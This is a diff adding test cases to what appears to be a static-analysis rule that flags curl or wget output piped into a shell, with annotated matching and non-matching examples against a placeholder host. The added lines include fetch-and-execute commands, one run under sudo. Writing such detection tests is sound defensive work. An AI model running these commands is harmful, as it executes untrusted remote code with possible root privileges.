@@ -16,3 +16,11 @@ curl -s https://a | zsh
 eval "$(curl -s https://a)"
 # ok: bash-eval
 "${cmd[@]}"
+# ruleid: bash-pipe-to-shell
+curl -s https://host.invalid/install | /bin/bash
+# ruleid: bash-pipe-to-shell
+curl -s https://host.invalid/install | /usr/bin/env bash -s
+# ruleid: bash-pipe-to-shell
+wget -qO- https://host.invalid/install | sudo -E /bin/sh -
+# ok: bash-pipe-to-shell
+curl -s https://host.invalid/list | grep bash
